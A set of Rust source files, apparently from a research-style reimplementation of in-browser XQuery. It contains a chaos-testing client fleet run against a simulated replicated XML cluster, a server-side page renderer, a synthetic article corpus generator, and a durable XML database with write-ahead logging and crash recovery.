        return Err(XdmError::new("XQIB0018", "fleet needs a non-empty corpus"));
    }
    let corpus_xml = generate_corpus(&cfg.corpus);
    let ids = article_ids(&cfg.corpus);
    let expected_refs = cfg.corpus.references_per_article.to_string();
    let expected_cities = CITIES.len().to_string();

    // --- the shared cluster, with chaos scheduled up front
    let mut ccfg = cfg.cluster.clone();
    ccfg.seed = mix64(cfg.seed ^ 0xc105);
    ccfg.disk_fault = cfg.chaos.disk.clone();
    let mut cluster = Cluster::new(ccfg);
    let mut load = |uri: &str, xml: &str| -> XdmResult<()> {
        cluster
            .load(uri, xml)
            .map(|_| ())
            .ok_or_else(|| XdmError::new("XQIB0018", format!("fleet could not load {uri}")))
    };
    load("corpus.xml", &corpus_xml)?;
    let cities_xml = format!(
        "<cities>{}</cities>",
        CITIES
            .iter()
            .map(|c| format!("<city>{c}</city>"))
            .collect::<String>()
    );
    load("cities.xml", &cities_xml)?;
    for i in 0..cfg.cart_clients {
        load(&format!("cart-{i}.xml"), "<cart/>")?;
    }
    for &(at, shard) in &cfg.chaos.leader_crashes {
        cluster.crash_leader_at(at, shard);
    }
    for &(shard, slot, from, to) in &cfg.chaos.partitions {
        cluster.partition(shard, slot, from, to);
    }
    for &(at, change) in &cfg.chaos.reshards {
        cluster.schedule_topology(at, change);
    }
    let step_ms = cfg.cluster.link_latency_ms.max(1);
    let pending_cap_ms = cfg.cluster.ack_timeout_ms + cfg.cluster.failover_detect_ms + 2_000;
    let cluster = Rc::new(RefCell::new(cluster));
    let cluster_now = Rc::new(Cell::new(0u64));
    let reroutes = Rc::new(Cell::new(0u64));

    // --- the clients
    let roster: Vec<(Scenario, bool)> =
        std::iter::repeat_n((Scenario::Elsevier, false), cfg.elsevier_clients)
            .chain(std::iter::repeat_n(
                (Scenario::Elsevier, true),
                cfg.elsevier_nocache_clients,
            ))
            .chain(std::iter::repeat_n(
                (Scenario::Mashup, false),
                cfg.mashup_clients,
            ))
            .chain(std::iter::repeat_n(
                (Scenario::Cart, false),
                cfg.cart_clients,
            ))
            .collect();
    let mut clients: Vec<ClientState> = Vec::with_capacity(roster.len());
    let mut cart_seq = 0usize;
    for (idx, &(scenario, nocache)) in roster.iter().enumerate() {
        let mut plugin = Plugin::new(PluginConfig {
            recovery: cfg.recovery.clone(),
            ..Default::default()
        });
        let meta = Rc::new(RefCell::new(LastMeta::default()));
        wire_cluster(
            &mut plugin,
            &cluster,
            &cluster_now,
            &meta,
            &reroutes,
            step_ms,
            pending_cap_ms,
        );
        if let Some(plan) = &cfg.chaos.net {
            let mut plan = plan.clone();
            plan.seed = mix64(cfg.seed ^ 0xf1ee7 ^ idx as u64);
            plugin
                .host
                .borrow_mut()
                .net
                .set_fault_plan(CLUSTER_HOST, plan);
        }
        let mut engine = None;
        let mut cart_uri = String::new();
        match scenario {
            Scenario::Elsevier => {
                plugin
                    .load_page(ELSEVIER_PAGE)
                    .map_err(|e| eval_err(idx, "load_page", e))?;
            }
            Scenario::Mashup => {
                // the private, never-faulted weather service of §6.2
                plugin
                    .host
                    .borrow_mut()
                    .net
                    .register("http://weather.local/", 10, |req| {
                        let loc = req.query_param("q").unwrap_or_default();
                        Response::ok(format!(
                            "<weather><summary>fair in {loc}</summary></weather>"
                        ))
                    });
                let js_sources = plugin
                    .load_page(MASHUP_PAGE)
                    .map_err(|e| eval_err(idx, "load_page", e))?;
                let js = Rc::new(RefCell::new(JsEngine::new(
                    plugin.store.clone(),
                    plugin.page_doc(),
                )));
                for src in &js_sources {
                    js.borrow_mut()
                        .run(src)
                        .map_err(|e| XdmError::new("XQIB0018", format!("fleet js: {e:?}")))?;
                }
                let regs = js.borrow_mut().take_registrations();
                for (target, event_type, f) in regs {
                    let js = js.clone();
                    plugin.register_external_listener(target, &event_type, move |ev| {
                        let _ =
                            js.borrow_mut()
                                .dispatch_to(&f, &ev.event_type, ev.target, ev.button);
                    });
                }
                engine = Some(js);
            }
            Scenario::Cart => {
                cart_uri = format!("cart-{cart_seq}.xml");
                cart_seq += 1;
                plugin
                    .load_page(CART_PAGE)
                    .map_err(|e| eval_err(idx, "load_page", e))?;
            }
        }
        clients.push(ClientState {
            plugin,
            scenario,
            nocache,
            idx,
            meta,
            _engine: engine,
            cart_uri,
            interactions: 0,
            behind_calls: 0,
            retry_after_honored: 0,
            degraded_observed: 0,
            blocked_until: 0,
            done: false,
        });
    }

    // --- the closed loop
    let mut master: EventLoop<FleetEvent> = EventLoop::new();
    for i in 0..clients.len() {
        let offset = 1 + mix64(cfg.seed ^ 0x5eed ^ i as u64) % cfg.think_ms.max(1);
        master.schedule(offset, FleetEvent::Turn(i));
    }
    master.schedule(TICK_MS, FleetEvent::Tick);
    let mut remaining = clients.len();
    let mut guard = 0u64;
    while remaining > 0 {
        let Some(ev) = master.pop() else { break };
        guard += 1;
        if guard > 10_000_000 {
            return Err(XdmError::new("XQIB0018", "fleet loop runaway"));
        }
        let now = master.now();
        match ev {
            FleetEvent::Tick => {
                let t = cluster_now.get().max(now);
                cluster_now.set(t);
                let _ = cluster.borrow_mut().advance(t);
                master.schedule(TICK_MS, FleetEvent::Tick);
            }
            FleetEvent::Turn(i) => {
                let interactions_per_client = cfg.interactions_per_client as u64;
                let think = cfg.think_ms.max(1);
                let c = &mut clients[i];
                if c.done {
                    continue;
                }
                let pnow = c.plugin.now();
                if pnow < now {
                    c.plugin.advance_clock(now - pnow);
                }
                if c.blocked_until > c.plugin.now() {
                    let wait = c.blocked_until - c.plugin.now();
                    master.schedule(
                        c.plugin.now().saturating_sub(now) + wait,
                        FleetEvent::Turn(i),
                    );
                    continue;
                }
                c.meta.borrow_mut().reset_turn();
                let k = c.interactions;
                run_interaction(c, cfg, &ids, k)?;
                c.interactions += 1;
                let extra = std::mem::take(&mut c.meta.borrow_mut().extra_wait_ms);
                if extra > 0 {
                    c.plugin.advance_clock(extra);
                }
                let mut delay = think;
                {
                    let m = c.meta.borrow();
                    if m.status == 503 {
                        if let Some(ra) = m.retry_after_ms {
                            c.blocked_until = c.plugin.now() + ra;
                            c.retry_after_honored += 1;
                            delay = delay.max(ra);
                        }
                    }
                    if m.degraded || m.replica_lag.is_some_and(|l| l > LAG_BACKOFF_THRESHOLD) {
                        c.degraded_observed += 1;
                        delay = delay.saturating_mul(2);
                    }
                }
                if c.interactions < interactions_per_client {
                    let ahead = c.plugin.now().saturating_sub(now);
                    master.schedule(ahead + delay, FleetEvent::Turn(i));
                } else {
                    c.done = true;
                    remaining -= 1;
                }
            }
        }
    }

    // --- recovery: chaos ends, the cluster settles, clients converge
    for c in &mut clients {
        c.plugin
            .host
            .borrow_mut()
            .net
            .clear_fault_plan(CLUSTER_HOST);
    }
    let settle_from = cluster_now.get().max(master.now());
    let (settled_at, _) = cluster.borrow_mut().quiesce(settle_from);
    cluster_now.set(settled_at.max(settle_from));
    let grace = settled_at + cfg.recovery.breaker_open_ms + 1_000;
    let mut converged = true;
    for c in &mut clients {
        let pnow = c.plugin.now();
        if pnow < grace {
            c.plugin.advance_clock(grace - pnow);
        }
        c.meta.borrow_mut().reset_turn();
        match c.scenario {
            Scenario::Elsevier => {
                let k = c.interactions;
                run_interaction(c, cfg, &ids, k)?;
                c.interactions += 1;
                if c.span("mode") != "fresh" || c.span("refcount") != expected_refs {
                    converged = false;
                }
            }
            Scenario::Mashup => {
                behind_fetch(c, &format!("{CLUSTER_BASE}/doc?uri=cities.xml"), "onCities")?;
                c.interactions += 1;
                if c.span("cities") != expected_cities {
                    converged = false;
                }
            }
            Scenario::Cart => {}
        }
        let extra = std::mem::take(&mut c.meta.borrow_mut().extra_wait_ms);
        if extra > 0 {
            c.plugin.advance_clock(extra);
        }
    }
    // extra failovers after recovery must still hold every acked op
    let (_, _) = cluster.borrow_mut().quiesce(cluster_now.get());

    // --- invariants + report
    let mut reports = Vec::with_capacity(clients.len());
    let mut totals = FleetStats::default();
    let mut missing_acked = Vec::new();
    let mut outcome_mismatches = Vec::new();
    for c in &clients {
        let host = c.plugin.host.borrow();
        let recovery = host.recovery.stats.clone();
        let quarantine_trips = host.quarantine.stats.trips;
        drop(host);
        let page = c.plugin.serialize_page();
        let acked = if c.scenario == Scenario::Cart {
            li_texts(&page, "acked")
        } else {
            Vec::new()
        };
        for marker in &acked {
            if !cluster.borrow().contains(&c.cart_uri, marker) {
                missing_acked.push((c.cart_uri.clone(), marker.clone()));
            }
        }
        let outcomes = recovery.completions + recovery.stale_events + recovery.error_events;
        if outcomes != c.behind_calls {
            outcome_mismatches.push(c.idx);
        }
        let origin = origin_requests(&c.plugin);
        let maps = page.matches("class=\"map\"").count() as u64;
        totals.clients += 1;
        totals.interactions += c.interactions;
        totals.behind_calls += c.behind_calls;
        totals.attempts += recovery.attempts;
        totals.retries += recovery.retries;
        totals.timeouts += recovery.timeouts;
        totals.fetch_errors += recovery.fetch_errors;
        totals.breaker_opens += recovery.breaker_opens;
        totals.breaker_fast_fails += recovery.breaker_fast_fails;
        totals.stale_served += recovery.stale_served;
        totals.stale_events += recovery.stale_events;
        totals.error_events += recovery.error_events;
        totals.completions += recovery.completions;
        totals.evictions += recovery.evictions;
        totals.quarantine_trips += quarantine_trips;
        totals.retry_after_honored += c.retry_after_honored;
        totals.degraded_observed += c.degraded_observed;
        totals.origin_requests += origin;
        reports.push(ClientReport {
            id: c.idx,
            scenario: c.scenario,
            nocache: c.nocache,
            interactions: c.interactions,
            behind_calls: c.behind_calls,
            recovery,
            quarantine_trips,
            origin_requests: origin,
            cart_uri: c.cart_uri.clone(),
            acked,
            final_mode: span_text(&page, "mode"),
            refcount: span_text(&page, "refcount"),
            maps,
            cities: span_text(&page, "cities"),
            retry_after_honored: c.retry_after_honored,
            degraded_observed: c.degraded_observed,
            finished_at: c.plugin.now(),
        });
    }
    totals.cache_hit_permille = totals
        .behind_calls
        .saturating_sub(totals.origin_requests)
        .saturating_mul(1000)
        .checked_div(totals.behind_calls)
        .unwrap_or(0);
    let duration_ms = reports.iter().map(|r| r.finished_at).max().unwrap_or(0);
    let replication = cluster.borrow().stats();
    let integrity = cluster.borrow().integrity_stats();
    let report = FleetReport {
        seed: cfg.seed,
        clients: reports,
        totals,
        missing_acked,
        outcome_mismatches,
        converged,
        duration_ms,
        replication,
        integrity,
        reroutes: reroutes.get(),
    };
    // the bridge handlers inside each plugin's virtual network hold clones
    // of the cluster Rc — drop the fleet before unwrapping it
    drop(clients);
    let cluster = Rc::try_unwrap(cluster)
        .map_err(|_| XdmError::new("XQIB0018", "fleet cluster still referenced"))?
        .into_inner();
    Ok((report, cluster))
}

/// Issues one `behind` fetch and drains the client's loop — the unit every
/// scenario interaction is built from.
fn behind_fetch(c: &mut ClientState, url: &str, listener: &str) -> XdmResult<()> {
    c.plugin
        .eval(&format!(
            r#"on event "stateChanged" behind browser:httpGet("{url}")
               attach listener local:{listener}"#
        ))
        .map_err(|e| eval_err(c.idx, "behind", e))?;
    c.behind_calls += 1;
    c.plugin
        .run_until_idle()
        .map_err(|e| eval_err(c.idx, "drain", e))?;
    Ok(())
}

/// One closed-loop interaction for client `c` (its `k`-th).
fn run_interaction(
    c: &mut ClientState,
    cfg: &FleetConfig,
    ids: &[String],
    k: u64,
) -> XdmResult<()> {
    let draw = mix64(cfg.seed ^ ((c.idx as u64) << 16) ^ k);
    match c.scenario {
        Scenario::Elsevier => {
            let article = &ids[(draw as usize) % ids.len()];
            c.plugin
                .eval(&format!(
                    r#"replace value of node //span[@id="target"] with "{article}""#
                ))
                .map_err(|e| eval_err(c.idx, "target", e))?;
            // the cache-busting population fetches a unique URL every time,
            // so each interaction really travels to the origin
            let url = if c.nocache {
                // `&amp;` because the URL is spliced into an XQuery string
                // literal, where a bare `&` starts an entity reference
                format!(
                    "{CLUSTER_BASE}/doc?uri=corpus.xml&amp;client={}&amp;seq={k}",
                    c.idx
                )
            } else {
                format!("{CLUSTER_BASE}/doc?uri=corpus.xml")
            };
            behind_fetch(c, &url, "onDoc")?;
        }
        Scenario::Mashup => {
            let city = CITIES[(draw as usize) % CITIES.len()];
            c.plugin
                .set_attr_by_id("searchbox", "value", city)
                .map_err(|e| eval_err(c.idx, "searchbox", e))?;
            c.plugin
                .click_id("searchbutton")
                .map_err(|e| eval_err(c.idx, "click", e))?;
            behind_fetch(c, &format!("{CLUSTER_BASE}/doc?uri=cities.xml"), "onCities")?;
        }
        Scenario::Cart => {
            let marker = format!("c{}op{k}", c.idx);
            c.plugin
                .eval(&format!(
                    r#"replace value of node //span[@id="op"] with "{marker}""#
                ))
                .map_err(|e| eval_err(c.idx, "op", e))?;
            let url = format!(
                "{CLUSTER_BASE}/update?xq=insert node <item id=%22{marker}%22/> \
                 into doc(%22{uri}%22)/*",
                uri = c.cart_uri
            );
            behind_fetch(c, &url, "onAck")?;
        }
    }
    Ok(())
}

/// Checks a report's acked-durability invariant against a cluster —
/// convenience for tests that force extra failovers after the run.
pub fn missing_acked_markers(report: &FleetReport, cluster: &Cluster) -> Vec<(String, String)> {
    let mut missing = Vec::new();
    for client in &report.clients {
        if client.scenario != Scenario::Cart {
            continue;
        }
        for marker in &client.acked {
            if !cluster.contains(&client.cart_uri, marker) {
                missing.push((client.cart_uri.clone(), marker.clone()));
            }
        }
    }
    missing
}
