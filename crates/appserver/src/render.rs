//! Server-side page rendering: the XQuery that the Reference 2.0
//! application server runs to produce article pages (the "before"
//! deployment of §6.1). The same rendering logic later runs in the browser
//! after migration — that is the whole point of the scenario.

/// The corpus document URI inside the XML database.
pub const CORPUS_URI: &str = "corpus.xml";

/// XQuery producing the browse page for one article: title, author, the
/// reference table and the reference statistics ("statistics, years…").
/// This is shared by the server renderer and the migrated client script.
pub fn article_body_query(article_id: &str) -> String {
    format!(
        r#"let $a := doc("{CORPUS_URI}")//article[@id="{article_id}"]
let $refs := $a/references/reference
return
  <div id="content">
    <h1>{{data($a/title)}}</h1>
    <p class="author">{{data($a/author)}}</p>
    <table id="refs">{{
      for $r in $refs
      order by number($r/year)
      return <tr><td>{{data($r/cited)}}</td><td>{{data($r/year)}}</td></tr>
    }}</table>
    <div id="stats">
      <span id="refcount">{{count($refs)}}</span>
      <span id="minyear">{{min(for $r in $refs return number($r/year))}}</span>
      <span id="maxyear">{{max(for $r in $refs return number($r/year))}}</span>
    </div>
  </div>"#
    )
}

/// XQuery producing the whole server-rendered page (HTML envelope around
/// the article body).
pub fn article_page_query(article_id: &str) -> String {
    format!(
        r#"<html>
  <head><title>Reference 2.0</title></head>
  <body>
    <div id="nav">Reference 2.0</div>
    {{ {body} }}
  </body>
</html>"#,
        body = article_body_query(article_id)
    )
}

/// XQuery for the journal index page (the entry point of a browse session).
pub fn index_page_query() -> String {
    format!(
        r#"<html>
  <head><title>Reference 2.0</title></head>
  <body>
    <div id="nav">Reference 2.0</div>
    <ul id="journals">{{
      for $j in doc("{CORPUS_URI}")//journal
      return <li id="{{data($j/@id)}}">{{data($j/title)}}
        ({{count($j//article)}} articles)</li>
    }}</ul>
  </body>
</html>"#
    )
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;
    use crate::corpus::{generate_corpus, CorpusSpec};
    use crate::xmldb::XmlDb;

    fn db() -> XmlDb {
        let mut db = XmlDb::new();
        let xml = generate_corpus(&CorpusSpec::default());
        db.load(CORPUS_URI, &xml).unwrap();
        db
    }

    #[test]
    fn article_page_renders() {
        let mut db = db();
        let html = db.query(&article_page_query("j0-v0-i0-a0")).unwrap();
        assert!(html.contains("<h1>"), "{html}");
        assert!(html.contains("<table id=\"refs\">"));
        assert!(html.contains("<span id=\"refcount\">5</span>"));
        assert!(html.contains("(j0-v0-i0-a0)"));
    }

    #[test]
    fn references_sorted_by_year() {
        let mut db = db();
        let html = db.query(&article_page_query("j0-v0-i0-a1")).unwrap();
        // extract years from the table and check ordering
        let years: Vec<i32> = html
            .split("<td>")
            .filter_map(|part| {
                let v = part.split('<').next()?;
                v.parse::<i32>().ok()
            })
            .collect();
        assert!(!years.is_empty());
        let mut sorted = years.clone();
        sorted.sort_unstable();
        assert_eq!(years, sorted);
    }

    #[test]
    fn index_page_lists_journals() {
        let mut db = db();
        let html = db.query(&index_page_query()).unwrap();
        assert_eq!(html.matches("<li ").count(), 2);
        assert!(html.contains("24 articles"));
    }
}
