//! Synthetic publishing corpus: the Elsevier article hierarchy
//! (journals → volumes → issues → articles → references) generated
//! deterministically — the DESIGN.md substitute for the proprietary
//! Reference 2.0 content.

/// Shape of the generated corpus.
#[derive(Debug, Clone, Copy)]
pub struct CorpusSpec {
    pub journals: usize,
    pub volumes_per_journal: usize,
    pub issues_per_volume: usize,
    pub articles_per_issue: usize,
    pub references_per_article: usize,
    pub seed: u64,
}

impl Default for CorpusSpec {
    fn default() -> Self {
        CorpusSpec {
            journals: 2,
            volumes_per_journal: 3,
            issues_per_volume: 2,
            articles_per_issue: 4,
            references_per_article: 5,
            seed: 42,
        }
    }
}

impl CorpusSpec {
    pub fn total_articles(&self) -> usize {
        self.journals * self.volumes_per_journal * self.issues_per_volume * self.articles_per_issue
    }
}

/// A tiny deterministic PRNG (xorshift64*), so corpora are reproducible
/// without pulling randomness into the substrate.
pub struct Prng(u64);

impl Prng {
    pub fn new(seed: u64) -> Self {
        Prng(seed.max(1))
    }
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545F4914F6CDD1D)
    }
    pub fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n as u64) as usize
    }
}

const TOPICS: &[&str] = &[
    "XQuery",
    "browsers",
    "databases",
    "mashups",
    "indexing",
    "streams",
    "caching",
    "XML",
    "optimisation",
    "transactions",
];

const AUTHORS: &[&str] = &[
    "Fourny",
    "Pilman",
    "Florescu",
    "Kossmann",
    "Kraska",
    "McBeath",
    "Ullman",
    "Codd",
    "Gray",
    "Stonebraker",
];

/// Generates the whole corpus as one XML document string (the journal
/// hierarchy document the XML database stores).
pub fn generate_corpus(spec: &CorpusSpec) -> String {
    let mut rng = Prng::new(spec.seed);
    let mut out = String::with_capacity(64 * 1024);
    out.push_str("<library>");
    for j in 0..spec.journals {
        out.push_str(&format!(
            "<journal id=\"j{j}\"><title>Journal of {} Research {j}</title>",
            TOPICS[j % TOPICS.len()]
        ));
        for v in 0..spec.volumes_per_journal {
            out.push_str(&format!("<volume id=\"j{j}-v{v}\" number=\"{}\">", v + 1));
            for i in 0..spec.issues_per_volume {
                out.push_str(&format!(
                    "<issue id=\"j{j}-v{v}-i{i}\" number=\"{}\" year=\"{}\">",
                    i + 1,
                    2000 + v
                ));
                for a in 0..spec.articles_per_issue {
                    let id = format!("j{j}-v{v}-i{i}-a{a}");
                    let topic = TOPICS[rng.below(TOPICS.len())];
                    let author = AUTHORS[rng.below(AUTHORS.len())];
                    out.push_str(&format!(
                        "<article id=\"{id}\"><title>On {topic} ({id})</title>\
                         <author>{author}</author><pages>{}</pages><references>",
                        10 + rng.below(20)
                    ));
                    for r in 0..spec.references_per_article {
                        let year = 1980 + rng.below(29);
                        let cited = AUTHORS[rng.below(AUTHORS.len())];
                        out.push_str(&format!(
                            "<reference idx=\"{r}\"><cited>{cited}</cited>\
                             <year>{year}</year></reference>"
                        ));
                    }
                    out.push_str("</references></article>");
                }
                out.push_str("</issue>");
            }
            out.push_str("</volume>");
        }
        out.push_str("</journal>");
    }
    out.push_str("</library>");
    out
}

/// Enumerates article ids in the corpus, in document order.
pub fn article_ids(spec: &CorpusSpec) -> Vec<String> {
    let mut out = Vec::with_capacity(spec.total_articles());
    for j in 0..spec.journals {
        for v in 0..spec.volumes_per_journal {
            for i in 0..spec.issues_per_volume {
                for a in 0..spec.articles_per_issue {
                    out.push(format!("j{j}-v{v}-i{i}-a{a}"));
                }
            }
        }
    }
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    #[test]
    fn corpus_is_deterministic_and_parses() {
        let spec = CorpusSpec::default();
        let a = generate_corpus(&spec);
        let b = generate_corpus(&spec);
        assert_eq!(a, b);
        let doc = xqib_dom::parse_document(&a).unwrap();
        assert!(doc.len() > 100);
    }

    #[test]
    fn corpus_shape() {
        let spec = CorpusSpec {
            journals: 2,
            volumes_per_journal: 2,
            issues_per_volume: 2,
            articles_per_issue: 3,
            references_per_article: 4,
            seed: 7,
        };
        assert_eq!(spec.total_articles(), 24);
        let xml = generate_corpus(&spec);
        assert_eq!(xml.matches("<article ").count(), 24);
        assert_eq!(xml.matches("<reference ").count(), 24 * 4);
        assert_eq!(article_ids(&spec).len(), 24);
        assert!(xml.contains("id=\"j1-v1-i1-a2\""));
    }

    #[test]
    fn different_seeds_differ() {
        let a = generate_corpus(&CorpusSpec {
            seed: 1,
            ..Default::default()
        });
        let b = generate_corpus(&CorpusSpec {
            seed: 2,
            ..Default::default()
        });
        assert_ne!(a, b);
    }
}
