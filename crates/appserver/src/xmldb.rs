//! The XML database (the MarkLogic stand-in of §6.1): a document store
//! with a server-side XQuery execution facility, optionally made durable
//! over a fault-injected [`VirtualDisk`].
//!
//! # Durability
//!
//! In durable mode every mutation is journaled to a write-ahead log
//! *before* it is acknowledged: document loads as [`WalRecord::Load`],
//! applied pending update lists as wire-encoded [`WalRecord::Pul`] redo
//! records (see `xqib_xquery::wire`). Appends are grouped: the log is
//! fsynced once every [`DurabilityConfig::group_commit`] operations. An
//! fsync failure is *soft* — the operation stays applied in memory, the
//! committed sequence simply does not advance, and the next group commit
//! retries the whole outstanding batch (fsync covers the file, not a
//! range).
//!
//! When the log outgrows [`DurabilityConfig::checkpoint_threshold`], a
//! [`Checkpoint`] snapshot of every bound document is written to the
//! alternate slot and the log is truncated. Checkpoints record the WAL
//! sequence they absorb, so [`XmlDb::recover`] — checkpoint load + replay
//! of the committed WAL suffix, stopping at the first torn or corrupt
//! frame — is idempotent even when a crash lands between the checkpoint
//! write and the log truncation.

use std::cell::RefCell;
use std::collections::BTreeMap;
use std::rc::Rc;

use xqib_dom::store::shared_store;
use xqib_dom::{DocId, SharedStore};
use xqib_storage::{
    content_digest, mix64, Checkpoint, DiskError, DurabilityStats, IntegrityError, ShippedFrame,
    VirtualDisk, Wal, WalRecord, CKPT_SLOTS, WAL_FILE,
};
use xqib_xdm::{Item, Sequence, XdmResult};
use xqib_xquery::context::{DynamicContext, StaticContext};
use xqib_xquery::plan::CompiledPlan;
use xqib_xquery::plancache::{compile_plan, static_fingerprint, PlanCache, PlanCacheStats};
use xqib_xquery::runtime::{self, ModuleRegistry};
use xqib_xquery::wire;

/// Plans kept per database. Render workloads cycle through a handful of
/// templates; 64 leaves generous room for ad-hoc `/query` traffic while
/// keeping the O(n) LRU scan trivial.
const PLAN_CACHE_CAPACITY: usize = 64;

/// Applies one redo record to a store, returning `false` when the record
/// cannot be applied (unparseable document, undecodable or inapplicable
/// PUL). The replay-stopping condition shared by [`XmlDb::recover`] and
/// the cluster replication receiver — both stop at the first record that
/// refuses to apply, keeping state at a frame boundary.
pub fn apply_wal_record(store: &SharedStore, record: &WalRecord) -> bool {
    match record {
        WalRecord::Load { uri, xml } => match xqib_dom::parse_document(xml) {
            Ok(doc) => {
                let mut s = store.borrow_mut();
                match s.doc_by_uri(uri) {
                    Some(id) => s.replace_document(id, doc),
                    None => {
                        s.add_document(doc, Some(uri));
                    }
                }
                true
            }
            Err(_) => false,
        },
        WalRecord::Pul(bytes) => {
            let mut s = store.borrow_mut();
            match wire::decode_pul(&mut s, bytes) {
                Ok(pul) => pul.apply(&mut s).is_ok(),
                Err(_) => false,
            }
        }
        WalRecord::Digest { uri, digest } => {
            let s = store.borrow();
            match s.doc_by_uri(uri) {
                Some(id) => {
                    let xml = xqib_dom::serialize::serialize_document(s.doc(id));
                    content_digest(uri, &xml) == *digest
                }
                None => false,
            }
        }
    }
}

/// Tuning knobs for durable mode.
#[derive(Debug, Clone, Copy)]
pub struct DurabilityConfig {
    /// Fsync the WAL once every `group_commit` journaled operations.
    pub group_commit: u64,
    /// Checkpoint (and truncate the WAL) once the log exceeds this many
    /// bytes. `0` disables automatic checkpoints.
    pub checkpoint_threshold: usize,
}

impl Default for DurabilityConfig {
    fn default() -> Self {
        DurabilityConfig {
            group_commit: 1,
            checkpoint_threshold: 64 * 1024,
        }
    }
}

/// Durable-mode state: the device, the open log, and commit bookkeeping.
struct Durable {
    disk: VirtualDisk,
    wal: Wal,
    cfg: DurabilityConfig,
    /// Generation of the newest checkpoint on disk.
    ckpt_gen: u64,
    /// Highest WAL sequence acknowledged by a successful fsync (or covered
    /// by the recovery checkpoint).
    last_committed: u64,
    /// Highest WAL sequence appended (≥ `last_committed`).
    last_appended: u64,
    /// Journaled operations since the last successful fsync.
    pending_ops: u64,
    stats: DurabilityStats,
}

/// A query ready to run: a plan shared out of the cache, or a one-shot
/// interpreter compilation when plan mode is off.
enum Executable {
    Plan(Rc<CompiledPlan>),
    Interp(runtime::CompiledQuery),
}

impl Executable {
    fn static_context(&self) -> Rc<StaticContext> {
        match self {
            Executable::Plan(p) => p.static_context().clone(),
            Executable::Interp(q) => q.sctx.clone(),
        }
    }

    fn run(&self, ctx: &mut DynamicContext) -> XdmResult<Sequence> {
        match self {
            Executable::Plan(p) => p.execute(ctx),
            Executable::Interp(q) => q.execute(ctx),
        }
    }
}

/// A server-side XML database.
pub struct XmlDb {
    pub store: SharedStore,
    /// number of queries evaluated (CPU proxy)
    pub evals: u64,
    /// Library modules visible to server-side queries (`import module`).
    modules: ModuleRegistry,
    /// Compiled plans keyed by (query text, static-context fingerprint).
    plans: PlanCache,
    /// `false` routes every query through the tree-walking interpreter
    /// instead of the compiled pipeline — the differential-testing and
    /// regression-triage escape hatch.
    pub plan_mode: bool,
    durable: Option<Durable>,
    /// Recorded content digest per document, sealed at journal time
    /// (durable mode only): what the read path and the scrubber verify
    /// served bytes against.
    digests: BTreeMap<String, u64>,
}

impl Default for XmlDb {
    fn default() -> Self {
        Self::new()
    }
}

impl XmlDb {
    /// An ephemeral, in-memory database (no journaling).
    pub fn new() -> Self {
        XmlDb {
            store: shared_store(),
            evals: 0,
            modules: ModuleRegistry::new(),
            plans: PlanCache::new(PLAN_CACHE_CAPACITY),
            plan_mode: true,
            durable: None,
            digests: BTreeMap::new(),
        }
    }

    /// A fresh durable database over `disk`, wiping any previous image.
    pub fn durable(disk: VirtualDisk, cfg: DurabilityConfig) -> Self {
        disk.delete(WAL_FILE);
        for slot in CKPT_SLOTS {
            disk.delete(slot);
        }
        let wal = Wal::create(disk.clone(), WAL_FILE);
        XmlDb {
            store: shared_store(),
            evals: 0,
            modules: ModuleRegistry::new(),
            plans: PlanCache::new(PLAN_CACHE_CAPACITY),
            plan_mode: true,
            durable: Some(Durable {
                disk,
                wal,
                cfg,
                ckpt_gen: 0,
                last_committed: 0,
                last_appended: 0,
                pending_ops: 0,
                stats: DurabilityStats::default(),
            }),
            digests: BTreeMap::new(),
        }
    }

    /// Recovers a durable database from a (possibly crashed) disk image:
    /// loads the newest intact checkpoint, then replays the committed WAL
    /// suffix, stopping at the first torn or corrupt frame (the
    /// prefix-durability contract). Recovering the same image twice yields
    /// the same state.
    pub fn recover(disk: VirtualDisk, cfg: DurabilityConfig) -> XdmResult<XmlDb> {
        let mut stats = DurabilityStats {
            recoveries: 1,
            ..Default::default()
        };
        let (ckpt, slot_verdicts) = Checkpoint::read_latest_verified(&disk);
        if slot_verdicts
            .iter()
            .any(|v| matches!(v, IntegrityError::AllCheckpointSlotsCorrupt))
        {
            stats.ckpt_slots_lost = 1;
        }
        let (ckpt_gen, ckpt_seq) = ckpt.as_ref().map_or((0, 0), |c| (c.gen, c.seq));

        let store = shared_store();
        let mut digests = BTreeMap::new();
        if let Some(ckpt) = &ckpt {
            let mut s = store.borrow_mut();
            for (uri, xml) in &ckpt.docs {
                let doc = xqib_dom::parse_document(xml).map_err(|e| {
                    xqib_xdm::XdmError::new(
                        wire::WIRE_ERR,
                        format!("checkpoint document {uri} unreadable: {e}"),
                    )
                })?;
                s.add_document(doc, Some(uri));
            }
            for (uri, digest) in ckpt.digests() {
                digests.insert(uri, digest);
            }
        }

        let mut replay = Wal::scan(&disk, WAL_FILE);
        if replay.mid_prefix_damage() {
            stats.wal_corruptions = 1;
        }
        let mut torn = replay.torn_tail_dropped;
        let mut applied_seq = ckpt_seq;
        let mut good = 0usize;
        for (seq, record, _end) in &replay.records {
            if *seq <= ckpt_seq {
                good += 1; // absorbed by the checkpoint; keep the frame
                continue;
            }
            if !apply_wal_record(&store, record) {
                if let WalRecord::Digest { .. } = record {
                    // the replayed state no longer hashes to what was
                    // acknowledged: silent damage, not a torn append
                    stats.recovery_digest_mismatches += 1;
                }
                torn = true;
                break;
            }
            if let WalRecord::Digest { uri, digest } = record {
                digests.insert(uri.clone(), *digest);
            }
            good += 1;
            applied_seq = *seq;
        }
        if good < replay.records.len() {
            replay.records.truncate(good);
            replay.valid_bytes = replay.records.last().map_or(0, |(_, _, end)| *end);
        }
        let mut wal = Wal::open_after(disk.clone(), WAL_FILE, &replay);
        wal.fast_forward(ckpt_seq);
        if torn {
            stats.torn_tails_dropped = 1;
        }
        Ok(XmlDb {
            store,
            evals: 0,
            modules: ModuleRegistry::new(),
            plans: PlanCache::new(PLAN_CACHE_CAPACITY),
            plan_mode: true,
            durable: Some(Durable {
                disk,
                wal,
                cfg,
                ckpt_gen,
                last_committed: applied_seq,
                last_appended: applied_seq,
                pending_ops: 0,
                stats,
            }),
            digests,
        })
    }

    /// Loads a document under a URI. If the URI is already bound the
    /// binding is **replaced** (same `DocId`, new content). In durable
    /// mode the load is journaled before it is acknowledged.
